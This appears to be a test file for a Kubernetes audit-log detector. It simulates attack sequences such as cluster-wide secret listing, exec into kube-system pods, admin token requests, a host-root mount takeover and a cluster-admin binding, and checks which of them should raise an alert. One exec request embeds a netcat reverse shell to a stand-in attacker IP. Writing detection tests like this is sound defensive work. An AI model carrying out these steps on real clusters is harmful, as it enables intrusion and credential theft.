import { binding, podSpec, pod, release, workload } from '../objects.ts';
import { account, hour, type World } from '../world.ts';
import type { Tables } from './table.ts';

const shop = account('shop', 'web');
const listSecrets = (world: World, user = 'eve'): void => world.request(user, { verb: 'list', of: 'secrets' });
const exec = (world: World, user = 'eve'): void =>
  world.request(user, {
    verb: 'create',
    of: 'pods/exec',
    in: 'kube-system',
    name: 'kube-proxy-x2k4v',
    code: 101,
    stage: 'ResponseStarted',
  });
const requestToken = (world: World, user = 'eve'): void =>
  world.request(user, { verb: 'create', of: 'serviceaccounts/token', in: 'kube-system', name: 'admin' });
const takeover = (world: World, user = 'eve'): void =>
  world.write(user, pod('shop/x', podSpec('alpine', { volumes: [{ name: 'h', hostPath: { path: '/' } }] })));

/** Several findings about one user or workload. */
export const sequenceTables: Tables = {
  'attack-sequence': {
    fires: [
      [
        'Secrets, a session and a token within minutes',
        (world) => {
          listSecrets(world);
          exec(world);
          requestToken(world);
        },
        {
          actor: 'eve',
          severity: 'critical',
          seen: /^3 different findings within an hour: .*cluster-wide-secret-list.*exec-into-pod.*token-request/,
        },
      ],
      [
        'a stolen token of a workload',
        (world) => {
          world.usually(() => world.request(shop, { of: 'configmaps', in: 'shop' }));
          listSecrets(world, shop);
          requestToken(world, shop);
          world.request(shop, { of: 'nodes/proxy', name: 'node-a', uri: '/api/v1/nodes/node-a/proxy/pods' });
        },
        { actor: shop },
      ],
      [
        'three users at one pod, who are all named',
        (world) => {
          const session = (user: string, uri: string): void =>
            world.request(user, { verb: 'get', of: 'pods/exec', in: 'shop', name: 'db', code: 101, stage: 'ResponseStarted', uri });
          world.found(pod('shop/db', podSpec('db')));
          world.usually(() => undefined);
          session('eve', '/api/v1/namespaces/shop/pods/db/exec?command=ls');
          session('mallory', '/api/v1/namespaces/shop/pods/db/exec?command=nc&command=203.0.113.9&command=4444&command=-e&command=sh');
          world.write('trent', pod('shop/db', { ...podSpec('db'), ephemeralContainers: [{ name: 'd', image: 'busybox' }] }), {
            verb: 'patch',
            of: 'pods/ephemeralcontainers',
          });
        },
        { actor: 'eve, mallory, trent' },
      ],
      [
        'changes and requests of one user',
        (world) => {
          takeover(world);
          exec(world);
          world.write('eve', binding('ClusterRoleBinding', 'x', 'ClusterRole/cluster-admin', ['User/mallory']));
        },
      ],
    ],
    quiet: [
      [
        'two findings',
        (world) => {
          listSecrets(world);
          exec(world);
        },
      ],
      [
        'three findings of different users',
        (world) => {
          listSecrets(world, 'a');
          exec(world, 'b');
          requestToken(world, 'c');
        },
      ],
      [
        'three findings over hours',
        (world) => {
          listSecrets(world);
          world.wait(2 * hour);
          exec(world);
          world.wait(2 * hour);
          requestToken(world);
        },
      ],
      [
        'the installation of software with all that it brings',
        (world) => {
          world.usually(() => world.request('deployer', { verb: 'create', of: 'deployments.apps', in: 'x' }));
          const of = { metadata: release('monitoring') };
          world.write('deployer', workload('DaemonSet', 'monitoring/node-exporter', podSpec('node-exporter', { hostPID: true }), of));
          world.write('deployer', workload('CronJob', 'monitoring/clean', podSpec('clean'), of));
          world.write(
            'deployer',
            binding(
              'ClusterRoleBinding',
              'monitoring',
              'ClusterRole/cluster-admin',
              ['ServiceAccount/monitoring/operator'],
              release('monitoring'),
            ),
          );
        },
      ],
      [
        'one detection three times',
        (world) => {
          for (const name of ['a', 'b', 'c'])
            world.request('eve', { verb: 'create', of: 'serviceaccounts/token', in: 'kube-system', name });
        },
      ],
    ],
  },
};
